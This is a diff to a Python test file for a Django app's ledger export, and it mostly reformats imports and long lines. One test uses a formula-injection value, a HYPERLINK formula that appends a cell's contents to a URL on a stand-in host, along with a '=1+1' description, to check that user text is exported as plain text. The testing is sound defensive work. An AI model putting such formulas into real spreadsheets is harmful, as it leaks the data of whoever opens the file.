@@ -1,6 +1,7 @@
 """The ledger export (issue 11, item 7; issue 13, item 2): large exports run in the worker with progress and a
 download link, split across sheets past the sheet limit, CSV in GB18030, only for the requester and in-scope
 coordinators, and user text always arrives as text."""
+
 import csv
 import io
 import re
@@ -10,12 +11,11 @@ import pytest
 from django.utils import timezone
 from python_calamine import CalamineWorkbook
 
+from tests.web.test_office_pages import cases  # noqa: F401 — the four cases of the office pages' tests
 from whistle.cases import services
 from whistle.core.models import RuleParameter
 from whistle.web.exports import IMMEDIATE_MAX_PARAM, run_pending_exports
 from whistle.web.models import LedgerExport
-
-from tests.web.test_office_pages import cases  # noqa: F401 — the four cases of the office pages' tests
 
 FORMULA = '=HYPERLINK("http://x?"&B2,"点我")'
 
@@ -79,7 +79,9 @@ def test_background_export_is_scoped_to_the_requester_like_the_ledger_page(heze,
     client = signed_in(heze.users.cao_office)
     status_url = _start(client)
     run_pending_exports(timezone.now())
-    rows = CalamineWorkbook.from_filelike(io.BytesIO(_download(client, status_url)[1])).get_sheet_by_index(0).to_python()
+    rows = (
+        CalamineWorkbook.from_filelike(io.BytesIO(_download(client, status_url)[1])).get_sheet_by_index(0).to_python()
+    )
     assert {r[0] for r in rows[1:]} == {cases[k].number for k in ("routed", "unrouted", "closed")}  # not 单县's
 
 
@@ -138,8 +140,9 @@ def test_only_the_requester_and_coordinators_over_them_can_open_an_export(heze, 
 
 
 def test_export_writes_user_text_as_text(heze, signed_in, cases):
-    case, _ = services.case_submit(heze.actor("ent_cao"), kind="help", category="construction-permit", title=FORMULA,
-                                   description="标题是一个公式")
+    case, _ = services.case_submit(
+        heze.actor("ent_cao"), kind="help", category="construction-permit", title=FORMULA, description="标题是一个公式"
+    )
     response = signed_in(heze.users.city_office).get("/ledger.xlsx", {"view": "all"})
     body = b"".join(response.streaming_content)
     with zipfile.ZipFile(io.BytesIO(body)) as book:
@@ -156,7 +159,9 @@ def test_export_writes_user_text_as_text(heze, signed_in, cases):
 def _redone_case(heze):
     """A case replied, found unresolved at the follow-up, and replied again: its 办理结果 is the second reply."""
     cao, handler = heze.actor("ent_cao"), heze.actor("cao_zjj")
-    case, _ = services.case_submit(cao, kind="help", category="construction-permit", description="=1+1 厂区变压器容量不足")
+    case, _ = services.case_submit(
+        cao, kind="help", category="construction-permit", description="=1+1 厂区变压器容量不足"
+    )
     for action, payload in [("accept", {}), ("contact", {}), ("reply", {"content": "已联系供电公司"})]:
         services.case_transition(handler, case.number, action, payload)
     services.case_transition(cao, case.number, "follow_up", {"resolution": "unresolved", "satisfaction": "unsatisfied"})
